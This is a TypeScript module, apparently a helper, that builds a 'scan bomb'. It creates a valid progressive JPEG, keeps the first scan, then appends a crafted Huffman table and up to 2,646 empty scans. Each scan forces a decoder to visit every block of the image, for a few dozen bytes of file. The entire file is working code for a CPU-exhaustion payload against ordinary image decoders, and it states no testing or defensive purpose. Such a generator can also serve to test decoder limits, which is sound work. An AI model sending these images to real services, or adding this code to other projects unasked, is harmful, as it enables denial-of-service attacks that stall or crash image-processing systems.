import sharp from 'sharp'

const startOfScan = Buffer.from([0xff, 0xda])
const end = Buffer.from([0xff, 0xd9])
/**
 * A table with one code, the bit 0 followed by 14 bits: an empty run over 16,384 or more blocks
 * (ITU-T T.81, G.1.2.2).
 */
const nothingTable = Buffer.from([0xff, 0xc4, 0, 20, 0x10, 1, ...Buffer.alloc(15), 0xe0])

/**
 * Up to 2,646 passes over a picture, each for one bit of one frequency of one colour, all empty.
 */
function* emptyScans(blocks: number): Generator<Buffer> {
  const nothing = Buffer.alloc(Math.ceil((Math.ceil(blocks / 16_384) * 15) / 8))
  for (let bit = 13; bit >= 0; bit--) {
    for (let frequency = 1; frequency < 64; frequency++) {
      for (let colour = 1; colour <= 3; colour++) {
        const precision = ((bit === 13 ? 0 : bit + 1) << 4) | bit
        const head = Buffer.from([0, 8, 1, colour, 0, frequency, frequency, precision])
        yield Buffer.concat([startOfScan, head, nothing])
      }
    }
  }
}

/**
 * A valid JPEG with this many scans: the decoder visits all its blocks for each, at a cost of a few
 * dozen bytes.
 */
export async function scanBomb(width: number, height: number, scans: number): Promise<Buffer> {
  const plain = await sharp({ create: { width, height, channels: 3, background: '#a0522d' } })
    .jpeg({ progressive: true, chromaSubsampling: '4:4:4' })
    .toBuffer()
  // Only the first scan, of the mean colours, is kept.
  const second = plain.indexOf(Buffer.from([0xff, 0xc4]), plain.indexOf(startOfScan))
  const blocks = Math.ceil(width / 8) * Math.ceil(height / 8)
  const more = [...emptyScans(blocks)].slice(0, scans - 1)
  return Buffer.concat([plain.subarray(0, second), nothingTable, ...more, end])
}
